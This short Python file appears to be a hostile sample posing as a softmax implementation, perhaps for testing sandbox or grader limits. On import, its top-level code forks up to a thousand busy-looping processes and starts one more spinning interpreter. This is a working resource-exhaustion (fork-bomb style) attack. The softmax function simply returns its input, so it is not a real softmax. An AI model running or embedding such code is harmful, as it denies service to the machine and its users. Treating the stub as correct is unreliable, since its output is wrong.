# Starts as many processes as it can.
import os
import subprocess
import sys

for _ in range(1000):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        pass
try:
    subprocess.run([sys.executable, "-c", "while True: pass"])
except OSError:
    pass


def softmax(logits):
    return logits
